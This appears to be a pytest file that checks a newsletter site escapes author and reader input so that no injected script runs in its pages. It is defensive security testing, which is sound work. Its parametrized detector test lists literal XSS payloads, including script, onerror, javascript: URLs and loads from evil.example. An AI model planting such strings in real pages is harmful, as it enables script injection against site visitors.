"""No script of an author, a reader or a visitor runs in a page, even where no policy stops it."""

import json
from collections.abc import Iterator, Sequence
from email.message import Message as Headers
from pathlib import Path
from urllib.parse import quote, urlencode

import pytest
from markupsafe import escape
from playwright.sync_api import Browser

from newsletter import digest, render
from newsletter.model.email import Email
from newsletter.model.listing import Listing
from newsletter.render import Masthead
from newsletter.store import Store
from newsletter.store.people import people
from newsletter.web.site import Site
from tests.attack.payloads import payloads
from tests.attack.screen import Screen, screen
from tests.browser.samples import THEMES
from tests.factories import NOW, link_of, make_list
from tests.integration.publishing import BASE_URL, Answer, Visitor, sent, site_of, visiting
from tests.integration.sending import FixedClock, fill_list
from tests.share import count

pytestmark = pytest.mark.browser

ALL = payloads()
TRIED = ALL[: count(len(ALL))]
AT_ONCE = 10
CHUNKS = [TRIED[start : start + AT_ONCE] for start in range(0, len(TRIED), AT_ONCE)]
END = "Here the issue ends."
# Whatever block of HTML a payload has opened, it ends here.
CLOSED = "\n\n--> ]]> ?> </script></style></pre></textarea></title>\n\n"


@pytest.fixture(scope="module")
def on_screen(browser: Browser) -> Iterator[Screen]:
    with screen(browser) as shown:
        yield shown


@pytest.fixture
def site(sqlite_store: Store, tmp_path: Path) -> Site:
    return site_of(sqlite_store, tmp_path, clock=FixedClock())


def on_one_line(payload: str) -> str:
    return " ".join(payload.split())


def blocks(payload: str) -> Iterator[str]:
    """A payload in each place of the body that an author has."""
    line = on_one_line(payload)
    yield payload
    yield f"Before {line} after"
    yield f"### {line}"
    yield f"### [{line}](https://example.com/)"
    yield f"[{line}]({line})"
    yield f"[text](<{line}>)"
    yield f'[text](https://example.com/ "{line}")'
    yield f"![{line}]({line})"
    yield f'![text](https://example.com/x.png "{line}")'
    yield f"**{line}:** a label"
    yield f"- {line}\n- [{line}](https://example.com/): x"
    yield f"| {line} |\n|---|\n| {line} |"
    yield f"> {line}"
    yield f"> text\n> — {line}"
    yield f"**[{line}](https://example.com/)**"
    yield f'![a](https://example.com/a.png "{line}") ![b](https://example.com/b.png "{line}")'
    yield f"::: sponsor {line}\n{line}\n:::"
    yield f"<div class='card'>\n**{line}**\n[{line}](https://example.com/)\n</div>"
    yield f"`{line}`"
    yield f"```{line}\n{line}\n```"
    yield f"<a href=\"{line}\" title='{line}'>text</a>"
    yield f"<img src='{line}' alt=\"{line}\">"
    yield f'<p style="{line}">text</p>'
    yield f"{{{{ subscriber.name | default('{line}') }}}}"
    yield f'{{{{ subscriber.x | default("{line}") }}}}'


def issue(chunk: Sequence[str]) -> Email:
    """An email that holds all payloads of a chunk in all places, its front matter included."""
    together = " ".join(on_one_line("".join(filter(str.isprintable, p))) for p in chunk)
    front = {
        "title": together,
        "subject": together[:900],
        "preheader": together,
        "category": together,
        "coverImage": chunk[0],
        "summary": list(map(on_one_line, chunk)),
    }
    lines = [f"{key}: {json.dumps(value)}" for key, value in front.items()]
    card = (
        f'<div class="card"><div class="card-title">{chunk[0]}</div><a class="card-cta" '
        f'href="{on_one_line(chunk[-1])}">{chunk[-1]}</a></div>'
    )
    body = CLOSED.join(block for payload in chunk for block in blocks(payload))
    source = "\n".join(
        ["---", *lines, "---", body, CLOSED, f"## {chunk[0]}", "", END, "", "---", "", card]
    )
    parsed = digest.parse(
        source.replace("\0", "").encode("utf-8", "replace"),
        file="issues/attack.md",
        stem="attack",
        base_url=BASE_URL,
        section_labels=(),
    )
    name = THEMES[sum(map(len, chunk)) % len(THEMES)]
    theme = render.load_theme(name, [render.packaged_templates()])
    masthead = Masthead(
        name=chunk[0],
        language="en",
        timezone="UTC",
        sender="Daily <daily@news.example.com>",
        reply_to="",
        base_url=BASE_URL,
        postal_address=chunk[0],
    )
    return render.render(parsed.digest, theme, masthead)


def assert_harmless(screen: Screen, answer: Answer) -> None:
    assert screen.dangers(answer, protected=False) == []


# --- the hooks themselves -------------------------------------------------------------------------


def as_page(html: str) -> Answer:
    headers = Headers()
    headers["Content-Type"] = "text/html; charset=utf-8"
    return Answer(200, headers, f"<!doctype html><title>x</title>{html}".encode())


@pytest.mark.parametrize(
    "html",
    [
        "<script>pwned()</script>",
        "<script>alert(1)</script>",
        "<script src=//evil.example/x.js></script>",
        "<img src=x onerror=pwned()>",
        "<svg onload=pwned()>",
        "<a href='java\tscript:pwned()'>x</a>",
        "<iframe srcdoc='x'></iframe>",
        "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<style>@import 'https://evil.example/x.css'</style>",
        "<form action=javascript:pwned()></form>",
        "<p style='background:url(https://evil.example/)'>x</p>",
    ],
)
def test_a_page_that_is_not_safe_is_noticed(on_screen: Screen, html: str) -> None:
    assert on_screen.dangers(as_page(html), protected=True)


@pytest.mark.parametrize("protected", [True, False])
def test_what_a_policy_refuses_is_noticed(on_screen: Screen, protected: bool) -> None:
    page = as_page("<p style='color:red'>x</p>")
    assert on_screen.dangers(page, protected=protected) == []

    page.headers["Content-Security-Policy"] = "default-src 'none'"

    [refused] = on_screen.dangers(page, protected=protected)
    assert "default-src 'none'" in refused


def test_most_payloads_are_dangerous_where_nothing_is_escaped(on_screen: Screen) -> None:
    """They attack something: raw HTML catches all but those made for Markdown or templates."""
    tried = TRIED[:40]

    dangerous = [
        payload for payload in tried if on_screen.dangers(as_page(payload), protected=False)
    ]

    assert len(dangerous) > len(tried) / 2


def test_there_are_more_than_a_thousand() -> None:
    assert len(ALL) == len(set(ALL)) > 1900


# --- the archive ----------------------------------------------------------------------------------


@pytest.mark.parametrize("chunk", CHUNKS, ids=map(str, range(len(CHUNKS))))
def test_no_script_of_an_issue_runs_in_the_archive(
    on_screen: Screen, sqlite_store: Store, site: Site, chunk: list[str]
) -> None:
    """In its body, its front matter, its promo card, its tags: on its own page, in the index, and
    where it is found."""
    fill_list(sqlite_store, 1)
    listing = Listing(tuple(map(on_one_line, chunk)))
    sent(sqlite_store, "attack", issue(chunk), FixedClock(), listing=listing)

    with visiting(site) as visitor:
        page, index = visitor.get("/archive/attack/"), visitor.get("/archive/")
        found = visitor.get("/archive/search?q=Before")

    assert page.status == index.status == found.status == 200
    assert END in page.text
    assert "<mark>Before</mark>" in found.text
    assert 'href="../archive/attack/"' in index.text
    for answer in (page, index, found):
        assert_harmless(on_screen, answer)
        assert on_screen.dangers(answer, protected=True) == []


# --- the pages of readers -------------------------------------------------------------------------


def post(visitor: Visitor, path: str, **fields: str) -> Answer:
    return visitor.get(
        path,
        {"Content-Type": "application/x-www-form-urlencoded"},
        method="POST",
        body=urlencode(fields, errors="replace"),
    )


@pytest.mark.parametrize("chunk", CHUNKS, ids=map(str, range(len(CHUNKS))))
def test_no_script_of_a_reader_runs_in_a_public_page(
    on_screen: Screen, sqlite_store: Store, site: Site, chunk: list[str]
) -> None:
    """A name, an address, a reason, and a list with a name that no command would give it."""
    fill_list(sqlite_store, 1, f"list {chunk[0]}")
    make_list(sqlite_store, "readers")
    link = link_of(sqlite_store, 1, f"list {chunk[0]}")
    preferences = site.path(site.links.preferences_url(link))
    unsubscribe = site.path(site.links.unsubscribe_url(link))
    pages = []

    with visiting(site) as visitor:
        for payload in chunk:
            refused = post(visitor, preferences, action="name", name=payload[:100])
            if payload.isprintable():
                with sqlite_store.write() as connection:  # as an import may bring it
                    people.update(connection, link.subscriber_id, payload[:100], {}, NOW)
            page = visitor.get(preferences)
            if payload.isprintable():
                assert escape(payload[:100]) in page.text  # it is there, as text
            pages += [
                refused,
                page,
                post(visitor, "/subscribe/readers", email=payload, name=payload),
                visitor.get(f"/archive/{quote(payload, safe='')}/"),
                visitor.get(f"/archive/search?q={quote(payload, safe='')}"),
            ]
        pages += [
            visitor.get(unsubscribe),
            post(visitor, unsubscribe, action="leave"),
            post(visitor, unsubscribe, action="reason", reason=" ".join(chunk)[:500]),
            visitor.get(preferences),
        ]

    for answer in {answer.content: answer for answer in pages}.values():
        assert_harmless(on_screen, answer)
